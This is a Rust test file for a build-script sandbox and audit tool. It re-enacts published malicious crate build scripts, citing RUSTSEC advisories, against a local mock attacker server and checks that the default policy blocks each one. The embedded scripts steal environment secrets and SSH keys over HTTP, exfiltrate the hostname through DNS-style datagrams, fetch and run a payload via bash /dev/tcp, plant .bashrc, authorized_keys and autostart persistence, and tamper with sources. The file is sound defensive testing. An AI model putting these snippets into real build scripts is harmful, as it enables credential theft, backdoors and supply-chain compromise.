//! Malicious build scripts that were published, re-enacted with harmless payloads: each reaches its goal
//! under plain Cargo; under the policy `default` none does, and the audit names the package, what it tried
//! and the process that did.

#[path = "support/audited.rs"]
mod audited;
mod support;

use std::fs;
use std::io::{Read, Write};
use std::net::{TcpListener, UdpSocket};
use std::process::Command;
use std::thread;
use std::time::Duration;

use audited::World;
use serde_json::Value;
use support::{shown, succeed};

/// What the attacker has: a server that takes what is sent, and answers with a program.
struct Attacker {
    http: TcpListener,
    names: UdpSocket,
}

const PAYLOAD: &str = "#!/bin/sh\n: >\"$1\"\n";

impl Attacker {
    fn new() -> Self {
        let http = TcpListener::bind("127.0.0.1:0").unwrap();
        let names = UdpSocket::bind("127.0.0.1:0").unwrap();
        names.set_read_timeout(Some(Duration::from_millis(1))).unwrap();
        Self { http, names }
    }

    /// Answers one connection, and gives what it sent.
    fn serve(&self) -> thread::JoinHandle<String> {
        let http = self.http.try_clone().unwrap();
        thread::spawn(move || {
            let mut stream = http.accept().unwrap().0;
            let (mut sent, mut piece) = (Vec::new(), [0; 1024]);
            // As a request ends.
            while !sent.ends_with(b"\r\n\r\n") {
                match stream.read(&mut piece).unwrap() {
                    0 => break,
                    length => sent.extend_from_slice(&piece[..length]),
                }
            }
            write!(stream, "HTTP/1.0 200 OK\r\n\r\n{PAYLOAD}").unwrap();
            String::from_utf8_lossy(&sent).into_owned()
        })
    }

    /// Whether anybody has connected and was not answered.
    fn is_called(&self) -> bool {
        self.http.set_nonblocking(true).unwrap();
        let called = self.http.accept().is_ok();
        self.http.set_nonblocking(false).unwrap();
        called
    }

    /// The last datagram.
    fn asked(&self) -> Option<String> {
        let mut bytes = [0; 512];
        let length = self.names.recv(&mut bytes).ok()?;
        Some(String::from_utf8_lossy(&bytes[..length]).into_owned())
    }
}

/// A dependency whose script does this; `HOME_DIR`, `HTTP`, `NAMES` and `ROOT` stand for the user's home
/// directory, the attacker's ports and the workspace.
fn enacted(attacker: &Attacker, script: &str) -> World {
    let world = World::new();
    let port = |address: std::io::Result<std::net::SocketAddr>| address.unwrap().port().to_string();
    let script = script
        .replace("HOME_DIR", world.home.to_str().unwrap())
        .replace("HTTP", &port(attacker.http.local_addr()))
        .replace("NAMES", &port(attacker.names.local_addr()))
        .replace("ROOT", world.project.root.to_str().unwrap());
    world.vendor("1.0.0", &script);
    world.generate_lockfile();
    world
}

fn with_secrets(command: &mut Command) -> &mut Command {
    command
        .env("AWS_SECRET_ACCESS_KEY", "cloud-s3cret")
        .env("CARGO_REGISTRY_TOKEN", "registry-s3cret")
}

fn build_plainly(world: &World) {
    let mut command = world.project.cargo(&["build", "--offline"]);
    world.prepare(&mut command);
    succeed(with_secrets(&mut command));
    fs::remove_dir_all(world.project.root.join("target")).unwrap();
}

/// What an audit reports of the package.
fn audited(world: &World) -> Value {
    let mut command = world.command(&["audit", "--format", "json"]);
    let output = with_secrets(&mut command).output().unwrap();
    assert!(matches!(output.status.code(), Some(5..=7)), "{}", shown(&output));
    let mut report: Value = serde_json::from_slice(&output.stdout).unwrap();
    let package = report["packages"][0].take();
    assert_eq!((&package["name"], &package["version"]), (&"hull".into(), &"1.0.0".into()));
    package
}

/// Whether the report says this of an aspect, and by whom it was done.
fn tells(package: &Value, aspect: &str, value: &str, by: &str) {
    let added = package["added"].as_array().unwrap();
    let found = added.iter().find(|change| {
        change["aspect"] == aspect && change["value"].as_str().unwrap().contains(value)
    });
    let change = found.unwrap_or_else(|| panic!("no {aspect} {value}: {package:#}"));
    let program = change["by"]["program"].as_str().unwrap();
    assert!(program.ends_with(by), "{change:#}");
}

/// Whether the report says that this was denied, and to whom.
fn refused(package: &Value, path: &str, by: &str) {
    let denials = package["denials"].as_array().unwrap();
    let path = format!("`{path}`");
    let found = denials.iter().find(|denial| denial["message"].as_str().unwrap().contains(&path));
    let denial = found.unwrap_or_else(|| panic!("{path} was not denied: {package:#}"));
    assert!(denial["by"]["program"].as_str().unwrap().ends_with(by), "{denial:#}");
}

/// RUSTSEC-2026-0107 (`mysten-metrics`), RUSTSEC-2026-0108 (`sui-execution-cut`): "attempted to exfiltrate
/// data from the build machine".
#[test]
fn credentials_are_not_sent_away() {
    let attacker = Attacker::new();
    let world = enacted(
        &attacker,
        r#"
        use std::io::{Read as _, Write as _};
        let mut loot = String::new();
        for name in ["AWS_SECRET_ACCESS_KEY", "CARGO_REGISTRY_TOKEN"] {
            loot += &format!("{name}={}\n", std::env::var(name).unwrap_or_default());
        }
        loot += &std::fs::read_to_string("HOME_DIR/.ssh/id_rsa").unwrap_or_default();
        if let Ok(mut stream) = std::net::TcpStream::connect(("127.0.0.1", HTTP)) {
            drop(write!(stream, "POST / HTTP/1.0\r\n{loot}\r\n\r\n"));
            drop(stream.read_to_string(&mut loot));
        }
        "#,
    );
    let server = attacker.serve();
    build_plainly(&world);
    let sent = server.join().unwrap();
    for secret in ["=cloud-s3cret", "=registry-s3cret", "\nsecret"] {
        assert!(sent.contains(secret), "{sent}");
    }

    let package = audited(&world);
    assert!(!attacker.is_called());
    tells(&package, "network", "127.0.0.1 port", "{script}");
    refused(&package, "{home}/.ssh/id_rsa", "{script}");
    tells(&package, "variables", "AWS_SECRET_ACCESS_KEY", "{script}");
    assert!(!package.to_string().contains("s3cret"));
}

/// RUSTSEC-2023-0097 to 0104 (`lazystatic`, `if-cfg`, `envlogger`, `littest` and others): "a malware payload
/// in build.rs to exfiltrate host information to the attacker"; here in questions for names.
#[test]
fn what_is_known_of_the_host_is_not_asked_about() {
    let attacker = Attacker::new();
    let world = enacted(
        &attacker,
        r#"
        let name = std::process::Command::new("uname").arg("-n").output().unwrap().stdout;
        let name = String::from_utf8(name).unwrap();
        if let Ok(socket) = std::net::UdpSocket::bind("0.0.0.0:0") {
            let question = format!("{}.exfiltrated.example.org", name.trim());
            drop(socket.send_to(question.as_bytes(), ("127.0.0.1", NAMES)));
        }
        "#,
    );
    build_plainly(&world);
    assert!(attacker.asked().unwrap().ends_with(".exfiltrated.example.org"));

    let package = audited(&world);
    assert_eq!(attacker.asked(), None);
    tells(&package, "network", "(IPv4 datagram)", "{script}");
    tells(&package, "programs", "uname", "/uname");
}

/// RUSTSEC-2026-0265 (`proc-macro1`, by way of `arrayref`): "a build script that would download a malicious
/// payload"; RUSTSEC-2026-0100 (`pretty-changelog-logger`): "a loader/dropper for malicious payloads".
#[test]
fn nothing_is_downloaded_and_run() {
    let attacker = Attacker::new();
    let world = enacted(
        &attacker,
        r#"
        let load = "exec 3<>/dev/tcp/127.0.0.1/HTTP; printf 'GET / HTTP/1.0\\r\\n\\r\\n' >&3; \
            payload=$(mktemp); sed '1,2d' <&3 >\"$payload\" && sh \"$payload\" 'HOME_DIR/ran'; rm \"$payload\"; :";
        std::process::Command::new("bash").args(["-c", load])
            .env("TMPDIR", std::env::temp_dir()).status().unwrap();
        "#,
    );
    let witness = world.home.join("ran");
    let server = attacker.serve();
    build_plainly(&world);
    assert!(server.join().unwrap().starts_with("GET /"));
    fs::remove_file(&witness).unwrap();

    let package = audited(&world);
    assert!(!attacker.is_called() && !witness.exists());
    tells(&package, "network", "127.0.0.1 port", "/bash");
    tells(&package, "programs", "bash", "/bash");
}

/// RUSTSEC-2026-0102 (`microsoftsystem64`): "installs a hardcoded SSH `authorized_keys` entry
/// (persistence/backdoor)"; and what a shell or a session starts.
#[test]
fn nothing_stays_in_the_home_directory() {
    let attacker = Attacker::new();
    let world = enacted(
        &attacker,
        r#"
        use std::io::Write as _;
        let open = |path: &str| std::fs::OpenOptions::new().append(true).create(true).open(path);
        if let Ok(mut file) = open("HOME_DIR/.bashrc") {
            writeln!(file, ": persisted").unwrap();
        }
        drop(std::fs::write("HOME_DIR/.ssh/authorized_keys", "ssh-ed25519 AAAA x"));
        drop(std::fs::create_dir_all("HOME_DIR/.config/autostart"));
        drop(std::fs::write("HOME_DIR/.config/autostart/x.desktop", "[Desktop Entry]"));
        "#,
    );
    let shell = world.home.join(".bashrc");
    let session = world.home.join(".config/autostart/x.desktop");
    let keys = world.home.join(".ssh/authorized_keys");
    fs::write(&shell, "mine\n").unwrap();
    build_plainly(&world);
    assert!(
        keys.exists()
            && session.exists()
            && fs::read_to_string(&shell).unwrap().contains("persisted")
    );
    fs::write(&shell, "mine\n").unwrap();
    fs::remove_dir_all(world.home.join(".config")).unwrap();
    fs::remove_file(&keys).unwrap();

    let package = audited(&world);
    assert!(!session.exists() && !keys.exists());
    assert_eq!(fs::read_to_string(&shell).unwrap(), "mine\n");
    for path in [".bashrc", ".config", ".ssh/authorized_keys"] {
        refused(&package, &format!("{{home}}/{path}"), "{script}");
    }
}

/// Source tampering: what is compiled, now or next time, is not what was reviewed.
#[test]
fn sources_stay_as_they_were_reviewed() {
    let attacker = Attacker::new();
    let world = enacted(
        &attacker,
        r##"
        for file in ["src/lib.rs", "src/../Cargo.lock", ".cargo/config.toml", "vendor/hull-1.0.0/src/lib.rs"] {
            use std::io::Write as _;
            let path = format!("ROOT/{file}");
            if let Ok(mut file) = std::fs::OpenOptions::new().append(true).open(path) {
                writeln!(file, "# tampered").unwrap();
            }
        }
        println!("cargo::rerun-if-changed=build.rs");
        "##,
    );
    let files = ["src/lib.rs", "Cargo.lock", ".cargo/config.toml", "vendor/hull-1.0.0/src/lib.rs"];
    let read = || files.map(|file| fs::read_to_string(world.project.root.join(file)).unwrap());
    let before = read();
    let mut command = world.project.cargo(&["build", "--offline"]);
    world.prepare(&mut command);
    // Whether what it made of the sources compiles is not the point.
    drop(command.output().unwrap());
    for (text, file) in read().iter().zip(files) {
        assert!(text.contains("# tampered"), "{file}");
    }
    for (file, text) in files.iter().zip(&before) {
        world.project.write(file, text);
    }
    fs::remove_dir_all(world.project.root.join("target")).unwrap();

    let package = audited(&world);
    assert_eq!(read(), before);
    for file in ["src/lib.rs", "Cargo.lock", ".cargo/config.toml"] {
        refused(&package, world.project.root.join(file).to_str().unwrap(), "{script}");
    }
    refused(&package, "{package}/src/lib.rs", "{script}");
}
